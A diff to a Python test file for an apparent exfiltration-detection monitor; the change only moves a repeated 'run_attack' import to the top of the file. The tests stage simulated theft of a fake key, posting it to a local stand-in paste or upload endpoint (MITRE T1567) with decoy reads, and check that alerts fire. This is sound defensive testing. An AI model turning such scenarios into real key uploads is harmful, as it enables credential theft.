@@ -15,8 +15,9 @@ from harness import Monitor, Scenario, as_list, assert_silent, check_service_saw
 from harness import is_action, paths
 from harness.config import HTTP_PORT, HTTPS_PORT
 
-from test_evasion import (PASTE, UPLOAD, WAIT_S, assert_no_secret, attack, dataflow_attack,
+from test_evasion import (PASTE, UPLOAD, WAIT_S, assert_no_secret, dataflow_attack,
                           handle_open, key_of, opened, silent_run)
+from test_scenarios import run_attack
 
 PY = paths.PYTHON
 READ_AS = paths.TOOLS_DIR / "read_as.py"
@@ -119,7 +120,6 @@ def test_key_spliced_straight_into_the_upload_socket(monitor, standin, fake_home
     scenario = Scenario(f"{method}-socket", "alert",
                         read_as(method, key, "--post", "127.0.0.1", HTTP_PORT, PASTE),
                         technique="T1567.003", domain=PASTE, uploads=True)
-    from test_scenarios import run_attack
     run_attack(scenario, monitor, standin, fake_home, tmp_path)
     plain_alerts(monitor)
     flows = [r for r in monitor.records()
@@ -205,7 +205,6 @@ def test_decoys_in_one_process_and_the_key_uploaded_by_it(monitor, standin, fake
                         read_as("read", key, "--decoys-before", 200, decoys,
                                 "--post", "127.0.0.1", HTTP_PORT, PASTE),
                         technique="T1567.003", domain=PASTE, uploads=True)
-    from test_scenarios import run_attack
     run_attack(scenario, monitor, standin, fake_home, tmp_path)
     plain_alerts(monitor)
     assert_no_secret(monitor, key)
@@ -438,7 +437,6 @@ def test_upload_to_an_ip_literal_alerts_with_the_address(monitor, standin, fake_
     key = key_of(fake_home)
     scenario = Scenario("ip-literal", "alert", IP_UPLOAD.format(key), technique="T1567",
                         uploads=True)
-    from test_scenarios import run_attack
     run_attack(scenario, monitor, standin, fake_home, tmp_path)
     found = [r for r in monitor.records() if get(r, "event.action") == "exfiltration-suspected"
              and get(r, "destination.port") == HTTPS_PORT
